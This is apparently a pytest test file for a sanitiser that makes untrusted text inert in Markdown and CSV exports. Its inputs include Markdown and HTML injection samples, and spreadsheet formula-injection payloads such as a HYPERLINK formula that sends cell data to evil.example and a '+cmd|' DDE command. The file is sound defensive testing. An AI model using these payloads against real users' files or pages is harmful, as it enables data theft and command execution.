"""core.text: untrusted text made inert in Markdown (no live link, image, autolink, HTML or formatting, the text
shown exactly) and in CSV (no formula a spreadsheet would evaluate; an exported CSV imports back unchanged)."""

from __future__ import annotations

import csv
import io
import random
import re

import pandas as pd
import pytest
from markdown_it import MarkdownIt

from core import text
from core.text import code_span, csv_cell, csv_safe, csv_unescape, escape_markdown, frame_to_csv, md
from tests.markdown_check import PAYLOADS, live_constructs, rendered_text

MORE_MARKDOWN = [
    "**bold** _it_ *it* ~~strike~~ `code` ```fence```",
    "# heading\n## two\n\nfoo\n===\n\n---\n> quote\n- item\n+ item\n1. one\n2) two",
    "| a | b |\n|---|---|\n| [x](http://evil.example) | ![i](http://evil.example/i.png) |",
    "$x^2$ and $$\\int$$ :red[coloured] :blue-badge[badge] :material/home: :smile:",
    "    indented code [x](http://evil.example)\n\tand a tab",
    "back\\slash \\[not a link\\](http://evil.example) \\",
    "[x]( http://evil.example 'title' ) [x](<http://evil.example>) [x]: http://evil.example",
    "HTTPS://EVIL.EXAMPLE Www.Evil.Example ftp://evil.example mailto:a@b.example xmpp:a@b.example",
    "(https://evil.example) *https://evil.example* _www.evil.example_ ~www.evil.example~",
    "<script>alert(1)</script>\n<div>\n\n<b>x</b>\n</div>",
    "<!-- c --> <?php ?> <![CDATA[x]]> &amp; &copy; &#123;",
    "line one\r\nline two\rline three\n\n\nnew paragraph",
    "[^1] footnote\n\n[^1]: http://evil.example",
    "",
    "ünïcödé 🙂 — “quotes” 中文",
]


@pytest.mark.parametrize("payload", [*PAYLOADS.values(), *MORE_MARKDOWN])
def test_escaped_text_has_nothing_live_and_reads_as_written(payload):
    escaped = escape_markdown(payload)
    assert live_constructs(escaped) == []
    expected = "\n".join(line.strip(" \t") for line in payload.replace("\r\n", "\n").replace("\r", "\n").split("\n"))
    assert [line.strip() for line in rendered_text(escaped).split("\n") if line.strip()] == \
        [line for line in expected.split("\n") if line]


def test_the_payloads_are_live_unescaped():
    """The check itself: every payload of an attack class is live when not escaped."""
    for name, payload in PAYLOADS.items():
        if name != "entities":
            assert live_constructs(payload), name
    # Entities cannot make a link themselves, but decode into a bare URL that GFM autolinks.
    assert live_constructs(PAYLOADS["entities"])


PARSER = MarkdownIt("commonmark").enable(["table", "strikethrough"])
PLAIN_BLOCKS = {"paragraph_open", "paragraph_close", "inline"}
PLAIN_INLINE = {"text", "softbreak", "hardbreak"}


def constructs(md_text: str) -> list[str]:
    """Every token of a CommonMark + GFM parse that is not plain text in paragraphs, and what markdown-it does not
    parse but Streamlit's renderer does: math (`$`), directives (`:name`) and autolink literals."""
    found = [t.type for b in PARSER.parse(md_text) for t in [b, *(b.children or [])]
             if t.type not in PLAIN_BLOCKS | PLAIN_INLINE]
    found += [f"unescaped {m.group()!r}" for m in re.finditer(r"(?<!\\)(?:\\\\)*(\$|:[A-Za-z])", md_text)]
    return found + live_constructs(md_text)


def expected_lines(text: str) -> list[str]:
    """The non-blank lines of a text, without surrounding whitespace (indentation is kept as no-break spaces, which
    a parser may trim at the start of a paragraph)."""
    lines = text.replace("\r\n", "\n").replace("\r", "\n").replace("\u00a0", " ").split("\n")
    return [line.strip() for line in lines if line.strip()]


def shown_lines(md_text: str) -> list[str]:
    return expected_lines(rendered_text(md_text, strip=False))


@pytest.mark.parametrize("payload", [*PAYLOADS.values(), *MORE_MARKDOWN])
def test_no_markdown_or_streamlit_syntax_survives(payload):
    escaped = escape_markdown(payload)
    assert constructs(escaped) == []
    assert shown_lines(escaped) == expected_lines(payload)
    # GFM autolink literals are found after escapes are resolved: the scheme, www and email are broken.
    resolved = escaped.replace("\\", "")
    for needle in ("://", "www.", "WWW.", "Www."):
        assert needle not in resolved


PIECES = [*"!\"#$%&'()*+,-./:;<=>?@[\\]^_`{|}~", *"aZ9 ", " ", "\t", "\n", "\n\n", "\r", "http://", "HTTPS://",
          "www.", "x@y.z", "](", "![", "[x]", "(http://e.x)", "&#x5B;", "&amp;", "&lt;img&gt;", ":red[", ":smile:",
          "$$", "```", "~~~", "~~", "---", "===", "1.", "1)", "> ", "# ", "- ", "* ", "+ ", "| a | b |\n|---|---|\n",
          "[^1]: ", "[1]: http://e.x", "a_b", "_", "__", "é_", "12.5", "-2", "#1", "##", "==", "- -", "-:",
          "<a href='x'>", "<!--", "é", "🙂", "\u00a0", "    ", "\\\n"]


def test_random_mixtures_of_markdown_stay_plain_text():
    rng = random.Random(7)
    for _ in range(3000):
        text = "".join(rng.choice(PIECES) for _ in range(rng.randint(1, 12)))
        escaped = escape_markdown(text)
        assert constructs(escaped) == [], (text, escaped)
        assert shown_lines(escaped) == expected_lines(text), (text, escaped)


def test_none_numbers_and_newlines():
    assert escape_markdown(None) == ""
    assert escape_markdown(12.5) == "12.5"
    assert escape_markdown("1. a_b (c) it's #1 - ok! _x_ __y") == "1\\. a_b (c) it's #1 - ok! \\_x\\_ \\_\\_y"
    assert escape_markdown("name@2 a@b.c") == "name@2 a@\u2060b.c"
    assert escape_markdown("a\nb") == "a  \nb"
    assert escape_markdown("a\n\nb") == "a  \n  \nb"
    assert escape_markdown("  x") == "\u00a0\u00a0x"


def test_md_escapes_fields_not_the_template():
    assert md("**{}** by {who}", "[x](http://e)", who="a_b") == "**\\[x\\](http:\u2060//e)** by a_b"
    assert md("rule {!r}", "x*y") == "rule 'x\\*y'"
    assert md("{:>4}|{:.1%}", "ab", 0.5) == "\u00a0\u00a0ab|50.0%"  # the spec applies first
    assert live_constructs(md("see {}", PAYLOADS["image"])) == []


@pytest.mark.parametrize("value", ["plain", "a`b", "``x``", "`start", "end`", " both ", "[x](http://evil.example)",
                                   "![i](http://evil.example/i.png)", "https://evil.example", "line\nbreak"])
def test_code_span_shows_the_text_literally(value):
    span = code_span(value)
    assert live_constructs(span) == []
    tokens = [t for b in text_tokens(span) for t in b]
    assert [t.type for t in tokens] == ["code_inline"] and tokens[0].content == value.replace("\n", " ")


def text_tokens(md_text: str):
    from markdown_it import MarkdownIt

    return [b.children for b in MarkdownIt("commonmark").parse(md_text) if b.children]


# ---------------------------------------------------------------------------------------------------------- CSV

FORMULAS = ["=HYPERLINK(\"http://evil.example?x=\"&A1,\"click\")", "+cmd|' /C calc'!A0", "-2+3", "@SUM(1+1)",
            "\t=1", "\r=1", "=1", "'=1", "''+1"]


@pytest.mark.parametrize("value", FORMULAS)
def test_formula_cells_get_a_quote_and_come_back(value):
    cell = csv_cell(value)
    assert cell.startswith("'") and cell[1:] == value
    assert csv_unescape(cell) == value


@pytest.mark.parametrize("value", ["plain", "a=b", "'quoted'", "'", "", "1.5", " =leading space", "x-1"])
def test_other_cells_are_unchanged(value):
    assert csv_cell(value) == value
    assert csv_unescape(value) == value


def test_numbers_pass_through():
    assert csv_cell(-2) == -2 and csv_cell(-1.5) == -1.5 and csv_cell(None) is None


def test_csv_safe_frame_cells_and_column_names():
    frame = pd.DataFrame({"=cmd": ["=HYPERLINK(\"http://e\")", "fine", None], "n": [-1, 2, 3],
                          "@col": ["+1", "-2+3", "\t=1"]})
    safe = csv_safe(frame)
    assert list(safe.columns) == ["'=cmd", "n", "'@col"]
    assert safe["n"].tolist() == [-1, 2, 3]
    assert list(frame.columns) == ["=cmd", "n", "@col"]  # the original is left alone
    rows = list(csv.reader(io.StringIO(frame_to_csv(frame).decode())))
    assert rows[0] == ["'=cmd", "n", "'@col"]
    assert rows[1] == ["'=HYPERLINK(\"http://e\")", "-1", "'+1"]
    assert rows[2] == ["fine", "2", "'-2+3"]
    assert rows[3] == ["", "3", "'\t=1"]
    for row in rows:
        for cell in row:
            assert not cell.startswith(text.FORMULA_START) or cell.lstrip("-").replace(".", "").isdigit()


def test_csv_safe_handles_duplicate_names_and_pandas_string_dtype():
    frame = pd.DataFrame([["=1", "=2"]], columns=["a", "a"]).astype("string")
    assert csv_safe(frame).iloc[0].tolist() == ["'=1", "'=2"]


def test_dataset_csv_export_quotes_formulas_and_imports_back_unchanged(pool):
    from core import datasets

    datasets.add_items(pool, "formulas", [
        {"input": {"q": value, "@var": "-2+3", "plain": "x"}, "expected": value, "tags": ["-tag", "@tag", "ok"]}
        for value in FORMULAS], create=True)
    data = datasets.export_items(pool, "formulas", "csv")
    rows = list(csv.reader(io.StringIO(data.decode(), newline="")))
    assert rows[0] == ["q", "'@var", "plain", "expected", "tags", "metadata"]
    for row in rows:
        assert not any(cell.startswith(text.FORMULA_START) for cell in row), row
    assert rows[1][:4] == ["'" + FORMULAS[0], "'-2+3", "x", "'" + FORMULAS[0]]
    original = [i.content for i in datasets.list_items(pool, "formulas")]
    datasets.import_file(pool, "formulas-copy", data, fmt="csv")
    assert [i.content for i in datasets.list_items(pool, "formulas-copy")] == original


def test_analytics_cli_csv_output_quotes_formulas(capsys):
    from core.cli import analytics as cli

    cli._print(pd.DataFrame({"=name": ["=HYPERLINK(\"http://e\")", "ok"], "n": [-1, 2]}), "csv")
    rows = list(csv.reader(io.StringIO(capsys.readouterr().out)))
    assert rows == [["'=name", "n"], ["'=HYPERLINK(\"http://e\")", "-1"], ["ok", "2"]]
